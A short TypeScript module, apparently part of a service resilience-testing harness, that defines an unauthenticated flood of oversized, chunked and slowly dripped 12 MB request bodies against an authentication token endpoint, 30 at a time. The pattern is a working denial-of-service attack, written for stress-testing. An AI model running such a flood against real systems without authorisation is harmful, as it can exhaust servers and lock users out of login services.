import { type Attack, flood } from '../attack.ts';

const width = 30;
const size = 12_000_000;
const body = [Buffer.alloc(size, 0x20)];

/** Bodies to the operation that anyone may call, of which only a few hundred bytes can mean anything. */
export const anonymousBodies: Attack = {
  name: 'anonymous-bodies',
  what: `12 MB of body for POST /v3/auth/tokens without credentials: with length, chunked, and never ending, ${width} at a time`,
  prepare: async (order) => () =>
    flood(order, width, (number) => {
      const common = { path: '/v3/auth/tokens', headers: { 'content-type': 'application/json' } };
      if (number % 3 === 0) return { ...common, body };
      if (number % 3 === 1) return { ...common, body, chunked: true };
      return {
        ...common,
        body: [body[0]?.subarray(0, size - 1000) ?? Buffer.of()],
        drip: { everyMs: 500, bytes: 1000 },
      };
    }),
};
